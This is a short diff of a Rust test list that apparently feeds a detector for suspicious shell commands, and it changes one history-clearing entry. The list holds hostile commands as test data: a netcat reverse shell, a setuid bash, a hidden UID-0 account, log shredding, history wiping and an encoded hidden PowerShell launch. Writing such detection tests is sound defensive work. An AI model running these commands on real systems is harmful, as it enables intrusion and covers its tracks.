@@ -225,7 +225,7 @@ mod tests {
             "sudo -u bob nc 198.51.100.7 9 -e /bin/sh",
             "/usr/bin/chmod u+s /bin/bash",
             "/usr/sbin/useradd -o -u 0 -g 0 toor",
-            "ln -sf /dev/null /root/.bash_history",
+            "ln -sf /dev/null ~/.bash_history",
             "bash -c 'unset HISTFILE; id'",
             "/usr/bin/shred -u /var/log/auth.log",
             "powershell.exe -w hidden -e SQBFAFgA",
